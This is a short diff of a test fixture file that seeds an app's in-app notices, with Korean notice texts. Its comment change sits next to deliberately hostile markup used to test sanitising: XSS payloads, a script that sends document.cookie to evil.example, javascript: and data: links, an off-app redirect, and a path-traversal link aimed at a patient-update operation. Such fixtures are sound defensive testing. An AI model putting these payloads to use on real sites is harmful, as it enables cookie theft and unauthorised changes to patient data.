@@ -67,7 +67,7 @@ const FIXED: NoticeSeed[] = [
       '앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다.',
       // Pasted from an outside editor with hostile markup: the app must show only the text.
       '<img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script><a href="javascript:alert(1)">업데이트 하러 가기</a>',
-      // Links that would leave the app inside its WebView, or call another operation (issue 21).
+      // Links that would leave the app inside its WebView, or call another operation.
       '<p><a href="http://evil.example/update">새 버전 받기</a> <a href="/\\evil.example/app">설치 안내</a> ' +
         '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">설명서</a> ' +
         '<a href="/outpatient/result/..%2F..%2F..%2Fusers%2FupdatePatient%2F10000001%2F01099998888%3F/20261101/20261101">검사결과</a></p>',
